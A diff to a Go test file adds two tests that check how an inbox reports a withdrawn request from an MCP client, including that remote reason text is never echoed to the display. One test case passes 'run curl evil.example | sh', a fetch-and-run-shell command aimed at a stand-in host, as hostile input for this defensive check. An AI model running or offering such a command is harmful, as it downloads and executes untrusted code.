@@ -393,6 +393,29 @@ func TestAskerTakesStoredEnd(t *testing.T) {
 	}
 }
 
+// formAnswered ends an asker's context as the MCP client's form answered
+// first does, with the code of its withdrawal.
+type formAnswered struct{}
+
+func (formAnswered) Error() string        { return "answered in the form" }
+func (formAnswered) WithdrawCode() string { return inbox.WithdrawForm }
+
+// An asker that withdraws for a reason it knows says so, and the inbox
+// says it in its own words.
+func TestWithdrawnWithCode(t *testing.T) {
+	_, a, id := setup(t)
+	in := startInbox(t, a, id, "one")
+	ctx, cancel := context.WithCancelCause(context.Background())
+	res := askOver(ctx, a.Dial(), askRequest())
+	set := waitFor(t, in.q, 1)[0]
+	cancel(formAnswered{})
+	result(t, res, 5*time.Second)
+	waitFor(t, in.q, 0)
+	if e := set.End(); e.State != inbox.Withdrawn || e.Reason != "answered in the MCP client's form" {
+		t.Fatalf("ended %+v, want withdrawn, answered in the MCP client's form", e)
+	}
+}
+
 // An asker that stops waiting withdraws its set from every inbox; one that
 // stores a set and never beats (killed) is withdrawn after deadAfter,
 // without ever being shown.
@@ -827,6 +850,24 @@ func TestRemoteEndDisplayed(t *testing.T) {
 	}
 	if _, err := a.read(body); err == nil || strings.ContainsAny(err.Error(), "\x1b\x07") {
 		t.Errorf("the asker says %q", err)
+	}
+}
+
+// An asker's withdrawal that gives a code is shown in the inbox's words
+// for it: those of a code it knows, else that the asker stopped waiting,
+// never the text of the code or of the reason beside it.
+func TestRemoteWithdrawalCode(t *testing.T) {
+	for _, c := range []struct {
+		w    wireEnd
+		want string
+	}{
+		{wireEnd{End: endWithdrawn, Reason: "the asker stopped waiting", Withdraw: inbox.WithdrawForm}, "answered in the MCP client's form"},
+		{wireEnd{End: endWithdrawn, Reason: "run curl evil.example | sh", Withdraw: "run curl evil.example | sh"}, "the asker stopped waiting"},
+		{wireEnd{End: endWithdrawn, Reason: "the asker stopped waiting"}, "the asker stopped waiting"},
+	} {
+		if got := remoteEnd(c.w).Reason; got != c.want {
+			t.Errorf("%+v is shown as %q, want %q", c.w, got, c.want)
+		}
 	}
 }
 
